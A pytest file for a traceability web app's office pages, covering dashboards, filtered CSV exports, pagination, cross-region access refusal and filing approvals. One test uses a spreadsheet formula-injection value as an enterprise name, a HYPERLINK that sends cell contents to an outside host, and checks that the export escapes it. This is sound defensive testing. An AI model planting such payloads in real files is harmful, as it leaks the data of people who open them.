"""The office's pages: what it sees, and what it decides of filings."""

from datetime import timedelta

import pytest

from aril.domain.enterprise import Activity, FilingStatus
from aril.domain.lot import LotState
from aril.domain.membership import Role
from aril.services.enterprises import filing
from tests import make
from tests.samples import DAY, enterprise
from tests.web.desks import LANGUAGES, Desk, said, send, table


def test_the_first_page_says_what_waits_and_the_rate_with_its_uncertainty(desk: Desk) -> None:
    laboratory = desk.orchard.member(3, Activity.LABORATORY, Role.INSPECTOR)
    desk.orchard.load_limits("carbendazim", "chlorpyrifos")
    desk.orchard.inspect(desk.orchard.harvest("10"), laboratory, **{"value-carbendazim": "0.9"})
    filing.submit(desk.orchard.site, enterprise(9), "示例", DAY)

    english, chinese = said(desk.reader().get("/office/")), said(desk.reader(language="zh").get("/office/"))

    assert "0 of 1 samples passed." in english
    assert "95% interval: 0.0% to 79.3%" in english
    assert "1 个样品，合格 0 个。" in chinese
    assert "示例合作社9" in english
    assert "检验不合格 R-1" in english
    assert "<svg" in english
    assert "2026-09" in english.partition("As a table")[2]


def test_another_prefecture_sees_an_empty_desk(desk: Desk) -> None:
    desk.orchard.harvest("10")
    filing.submit(desk.orchard.site, enterprise(9), "示例", DAY)

    page = said(desk.reader(desk.neighbour).get("/office/"))

    assert "Nothing waits for you." in page
    assert "示例合作社9" not in page


@pytest.mark.parametrize("page", ["", "enterprises", "lots", "limits", "chains", "import", "recall"])
def test_pages_are_whole_before_anything_is_there(desk: Desk, page: str) -> None:
    assert desk.reader(desk.neighbour).get(f"/office/{page}").status_code == 200


def test_enterprises_are_filtered_by_their_address_and_exported_as_shown(desk: Desk) -> None:
    shop = desk.orchard.member(2, Activity.TRADER, region="370481")
    client = desk.reader()

    page = said(client.get("/office/enterprises?activity=trader&county=370481"))
    exported = table(client.get("/office/enterprises.csv?activity=trader&county=370481"))

    assert "示例合作社2" in page
    assert "示例合作社1" not in page
    assert "/office/enterprises.csv?activity=trader&county=370481" in page
    assert [row[0] for row in exported] == ["Enterprise", "示例合作社2"]
    assert shop.organisation_name == "示例合作社2"


def test_an_export_runs_nothing_on_the_readers_machine(desk: Desk) -> None:
    evil = '=HYPERLINK("http://example.org/"&A1)'
    filing.submit(desk.orchard.site, enterprise(9, name=evil), "示例", DAY)

    answer = desk.reader(language="zh").get("/office/enterprises.csv?status=submitted")

    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == "attachment; filename=enterprises-2026-09-12.csv"
    assert table(answer)[1][0] == f"'{evil}"
    assert table(answer)[0][0] == "企业"


@pytest.mark.parametrize(
    "address",
    ["enterprises?status=happy", "enterprises?county=1", "lots?since=soon", "lots.csv?state=x"],
)
@pytest.mark.parametrize("language", LANGUAGES)
def test_an_address_that_says_something_else_is_refused(desk: Desk, address: str, language: str) -> None:
    answer = desk.reader(language=language).get(f"/office/{address}")

    assert answer.status_code == 422
    assert any(word in said(answer) for word in ("Choose one", "Expected", "请从列表中选择", "应"))


def test_a_list_goes_on_where_its_page_ended(desk: Desk) -> None:
    made = [desk.orchard.harvest("1") for _ in range(51)]
    client = desk.reader()

    first = said(client.get("/office/lots?state=active"))
    address = first.partition('rel="next"')[0].rpartition('href="')[2].partition('"')[0]
    second = said(client.get(address))

    assert "51 lots" in first
    assert "state=active" in address
    listed = [lot for lot in made if f"/office/lots/{lot.code}" in first]
    assert len(listed) == 50
    assert [lot.code for lot in made if f"/office/lots/{lot.code}" in second] == [
        lot.code for lot in made if lot not in listed
    ]


def test_lots_are_exported_with_their_names_in_the_readers_language(desk: Desk) -> None:
    lot = desk.orchard.harvest("12.5")

    english = table(desk.reader().get("/office/lots.csv"))
    chinese = table(desk.reader(language="zh").get(f"/office/lots.csv?text={lot.code[:5]}"))

    assert english[1][:4] == [lot.code, "Pomegranate", "Daqingpitian", "示例合作社1"]
    assert chinese[1][1:3] == ["石榴", "大青皮甜"]
    assert english[1][6:9] == ["12.5", "12.5", "active"]


def test_a_lot_is_opened_by_its_code_or_its_label(desk: Desk) -> None:
    lot = desk.orchard.harvest("1")
    client = desk.reader()

    for typed in (
        lot.code,
        f"https://trace.example/t/{lot.code}",
        f" {lot.code[:4]}-{lot.code[4:]} ".lower(),
    ):
        assert send(client, "/office/lots", code=typed).location == f"/office/lots/{lot.code}"


@pytest.mark.parametrize(("typed", "status"), [("", 422), ("ABCDEFGH23456", 422), ("N0-SUCH", 422)])
@pytest.mark.parametrize("language", LANGUAGES)
def test_a_mistyped_code_is_explained_on_the_same_page(
    desk: Desk, typed: str, status: int, language: str
) -> None:
    answer = send(desk.reader(language=language), "/office/lots", code=typed)

    assert answer.status_code == status
    assert 'id="w-code"' in answer.text


def test_a_foreign_record_is_answered_like_none(desk: Desk) -> None:
    lot = desk.orchard.harvest("1")
    client = desk.reader(desk.neighbour)
    before = desk.entries()
    token = make.token_of(client, "/office/limits")

    for path in (
        f"/office/lots/{lot.code}",
        f"/office/lots/{lot.code}/recall",
        f"/office/enterprises/{lot.organisation_id}",
    ):
        assert client.get(path).status_code == 404
    for path in (
        f"/office/lots/{lot.code}/hold",
        f"/office/lots/{lot.code}/release",
        f"/office/lots/{lot.code}/recall",
        f"/office/enterprises/{lot.organisation_id}",
        f"/office/enterprises/{lot.organisation_id}/invitation",
    ):
        values = {"csrf_token": token, "reason": "x", "confirm": lot.code, "action": "suspend"}
        assert client.post(path, data=values).status_code == 404
    assert send(client, "/office/lots", code=lot.code).status_code == 404
    assert (desk.entries(), desk.state(lot)) == (before, LotState.ACTIVE)


def test_who_has_decided_is_led_to_what_waits_longest(desk: Desk) -> None:
    first, second, third = (
        filing.submit(desk.orchard.site, enterprise(each), "示例", DAY + timedelta(hours=each))
        for each in (7, 8, 9)
    )
    client = desk.reader()
    before = said(client.get(f"/office/enterprises/{first}"))

    answer = send(client, f"/office/enterprises/{first}", action="approve", reason="")
    page = said(client.get(answer.location))

    assert "The next filing" not in before
    assert f'href="/office/enterprises/{second}">The next filing: 示例合作社8</a>' in page
    assert "2 wait<" in page
    assert third not in page


def test_a_filing_is_approved_and_the_step_is_kept(desk: Desk) -> None:
    filed = filing.submit(desk.orchard.site, enterprise(9), "示例", DAY)
    client = desk.reader()

    answer = send(client, f"/office/enterprises/{filed}", action="approve", reason="")
    page = said(client.get(answer.location))

    assert filing.show(desk.orchard.site, filed).status is FilingStatus.APPROVED
    assert "The filing is now: approved." in page
    assert desk.office.user_name in page.partition("Steps so far")[2]


@pytest.mark.parametrize(
    ("language", "says"), [("en", "Say why"), ("zh", "请写明原因，让企业知道该怎么做。")]
)
def test_changes_are_not_asked_for_without_a_reason(desk: Desk, language: str, says: str) -> None:
    filed = filing.submit(desk.orchard.site, enterprise(9), "示例", DAY)

    answer = send(
        desk.reader(language=language), f"/office/enterprises/{filed}", action="request_changes", reason=" "
    )

    assert answer.status_code == 422
    assert says in said(answer)
    assert filing.show(desk.orchard.site, filed).status is FilingStatus.SUBMITTED


def test_a_step_out_of_turn_is_a_conflict(desk: Desk) -> None:
    path = f"/office/enterprises/{desk.orchard.grower.organisation_id}"

    answer = send(desk.reader(language="zh"), path, action="reinstate", reason="")

    assert answer.status_code == 409
    assert "建档状态为「已通过」，不能「恢复」。" in said(answer)


def test_what_would_change_stands_beside_what_was_approved(desk: Desk) -> None:
    organisation = desk.orchard.grower.organisation_id
    filing.submit(desk.orchard.site, enterprise(name="新名"), "示例甲", DAY, organisation_id=organisation)

    page = said(desk.reader().get(f"/office/enterprises/{organisation}"))

    changes = page.partition("What would change")[2].partition("What is filed")[0]
    assert "示例合作社1" in changes
    assert "新名" in changes
    assert "榴园镇示例村" not in changes


def test_the_first_person_of_an_imported_enterprise_gets_a_link(desk: Desk) -> None:
    organisation = desk.orchard.grower.organisation_id
    page = f"/office/enterprises/{organisation}"
    client = desk.reader()

    answer = send(client, f"{page}/invitation", page, person="示例甲", login="13900000000")
    link = said(client.get(answer.location)).partition('class="address">')[2].partition("<")[0]
    guest = desk.app.test_client()
    path = link.removeprefix("http://127.0.0.1:8000")
    joined = send(guest, path, password=make.PASSWORD, repeated=make.PASSWORD)

    assert joined.status_code == 302
    assert filing.show(desk.orchard.site, organisation).has_people
    again = send(client, f"{page}/invitation", page, person="别人", login="13900000001")
    assert again.status_code == 409
    assert "示例合作社1 has an administrator already, who can invite others." in said(again)
